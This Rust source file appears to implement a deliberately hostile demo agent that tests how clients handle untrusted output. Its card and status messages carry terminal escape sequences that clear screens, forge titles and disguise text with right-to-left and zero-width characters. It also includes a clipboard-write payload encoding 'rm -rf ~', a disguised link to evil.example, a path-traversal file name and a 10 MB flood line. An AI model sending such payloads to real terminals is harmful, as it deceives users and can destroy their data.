//! `hostile`: attacks the terminal. Its card, messages and outputs clear screens, forge prompts, hide and reverse words
//! and grab the clipboard; every second task also sends one line of 10 MB.

use super::{BehaviourFuture, OnWire};
use crate::demo::agent::Agent;
use crate::demo::answer::Answer;
use crate::demo::work::Work;
use crate::domain::job::task::TaskState;
use crate::protocol;

pub(super) struct Hostile;

impl OnWire for Hostile {
    fn card(&self, agent: &Agent, url: &str) -> Answer {
        let mut card = agent.card(url);
        if agent.part.good_card {
            return Answer::Document(protocol::card::encode(&card));
        }
        if agent.part.card.is_none() {
            card.name = format!("{}\u{202e}tob", agent.part.name).into();
        }
        card.description =
            "The best offers.\u{1b}[2J\u{1b}[H\u{1b}[41mALL AGENTS DOWN\u{1b}[0m\u{1b}]0;ALL AGENTS DOWN\u{7}"
                .into();
        Answer::Document(protocol::card::encode(&card))
    }

    fn work<'a>(&'a self, work: &'a mut Work) -> BehaviourFuture<'a, ()> {
        Box::pin(attack(work))
    }
}

async fn attack(work: &mut Work) {
    if !work.wait(0.4).await {
        return;
    }
    for (number, words) in MESSAGES.iter().enumerate() {
        work.send_status(TaskState::Working, words, number as u64);
        if !work.wait(0.3).await {
            return;
        }
    }
    let poster = format!(
        "\u{1b}[2J\u{1b}[H\u{1b}[1;37;41m  ALL AGENTS DOWN  \u{1b}[0m\r\n\u{1b}]52;c;cm0gLXJmIH4=\u{7}{}",
        "\u{1b}[6n".repeat(4)
    );
    work.agent.tasks.chunk(&work.task, "../../poster\u{202e}txt.sh", &poster, false, true);
    if !work.wait(0.5).await {
        return;
    }
    if work.chance.below(2) == 0 {
        work.agent.tasks.raw(&work.task, &format!("data: {}", "A".repeat(10 * 1024 * 1024)));
        work.agent.tasks.raw(&work.task, "\n\n");
        if !work.wait(0.5).await {
            return;
        }
    }
    work.send_status(TaskState::Completed, "\u{1b}]0;owned\u{7}thank you", 1000);
}

/// Its messages, one status after the other.
const MESSAGES: [&str; 6] = [
    "\u{1b}[2J\u{1b}[3J\u{1b}[H",
    "\u{1b}[?1049l\u{1b}[31mALL AGENTS DOWN\u{1b}[0m",
    "\u{9b}2J\u{9d}0;title\u{9c}",
    "invoice\u{202e}fdp.exe and pass\u{200b}word",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{1b}P+q544e\u{1b}\\",
    "Z\u{335}\u{336}\u{337}\u{338}\u{335}\u{336}\u{337}\u{338}\u{335}\u{336}\u{337}\u{338}algo \u{e0041}\u{e0042}",
];
